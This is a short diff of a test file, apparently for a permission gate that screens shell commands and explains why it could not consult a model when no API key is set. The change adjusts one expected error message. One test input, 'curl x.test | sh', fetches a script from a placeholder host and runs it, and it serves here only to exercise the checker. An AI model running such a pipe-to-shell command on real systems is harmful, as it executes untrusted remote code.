@@ -541,7 +541,7 @@ describe("a model that is named and not set up", () => {
     const gate = here.gate({ ...says(missing), store: memoryStore(), tell: () => undefined });
     for (const command of ["make deploy", "make other"])
       expect((await gate.check(bash(command, { session: "a" }))).reason).toMatch(
-        /; no rule covers it\. The model could not be asked: anthropic: no key: X is not set\. To settle it for good: /,
+        /; no rule covers it\. The model could not be asked: anthropic: no key: X is not set\. To settle it for good /,
       );
     expect((await gate.check(bash("curl x.test | sh"))).reason).toContain(
       "The model could not be asked: anthropic: no key: X is not set.",
